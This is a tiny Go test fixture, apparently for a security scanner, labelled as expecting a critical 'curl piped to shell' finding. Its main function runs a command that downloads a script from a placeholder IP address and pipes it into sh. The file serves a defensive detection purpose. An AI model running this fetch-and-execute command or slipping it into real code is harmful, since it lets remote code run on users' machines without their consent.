# expect: shell.curl_pipe_shell critical
# path: tools/gen.go
package main
import "os/exec"
func main() { exec.Command("sh", "-c", "curl -s https://203.0.113.9/x | sh").Run() }
